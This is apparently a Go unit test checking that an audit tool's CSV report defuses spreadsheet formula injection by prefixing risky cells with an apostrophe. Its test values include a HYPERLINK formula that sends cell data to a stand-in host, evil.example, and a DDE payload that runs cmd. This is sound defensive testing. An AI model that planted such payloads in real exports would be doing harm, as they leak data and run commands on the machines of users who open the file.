package report

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/work365/audit/internal/policy"
)

// A cell that a spreadsheet would run as a formula, one starting with =, +, -, @, a tab or a carriage return
// (OWASP's list for CSV injection), gets a leading apostrophe in every column: the spreadsheet shows it as text
// and the text is kept after the apostrophe. Other cells, a sign in their middle included, are unchanged.
func TestCSVDefusesEveryCellASpreadsheetWouldRunAsAFormula(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, value string
		defused     bool
	}{
		{"equals", `=HYPERLINK("https://evil.example/?"&A1,"Open")`, true},
		{"plus", "+1 555 0100", true},
		{"minus", "-Contoso", true},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", true},
		{"tab", "\t=1+1", true},
		{"carriage return", "\r=1+1", true},
		{"a plain name", "Contoso Production", false},
		{"signs inside", "R&D = sales + ops - @hq", false},
		{"already an apostrophe", "'=1+1", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			v := tc.value
			r := &Report{
				Environments: []Environment{{Tenant: v, ID: v, Name: v, Type: v, Region: v}},
				Results: []policy.Result{{Tenant: v, EnvironmentID: v, EnvironmentName: v, RuleID: v, Title: v, Status: policy.Status(v), Severity: v,
					Message: v, Evidence: map[string]any{"name": v},
					Remediation: &policy.Remediation{Summary: v, OptIn: v, Actions: []map[string]any{{"action": v}}},
					Waiver:      &policy.WaiverInfo{Reason: v, Owner: v, Ticket: v, Expires: v}}},
			}
			out := render(t, "csv", r, Options{})
			rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
			require.NoError(t, err)
			require.Len(t, rows, 2)
			// A carriage return inside a field is no line break: the writer, which ends lines with CRLF, drops it.
			want := strings.ReplaceAll(v, "\r", "")
			if tc.defused {
				want = "'" + want
			}
			for i, col := range CSVColumns {
				got := rows[1][i]
				switch col {
				case "automatic", "waiver_expired":
					assert.Contains(t, []string{"true", "false"}, got, col)
				case "evidence":
					assert.JSONEq(t, `{"name":`+jsonString(t, v)+`}`, got, "evidence is JSON, which starts with a brace")
				default:
					assert.Equal(t, want, got, col)
				}
				if got != "" {
					assert.NotContains(t, "=+-@\t\r", got[:1], "column %s starts with a formula character", col)
				}
			}
		})
	}
}

func jsonString(t *testing.T, s string) string {
	t.Helper()
	b, err := json.Marshal(s)
	require.NoError(t, err)
	return string(b)
}
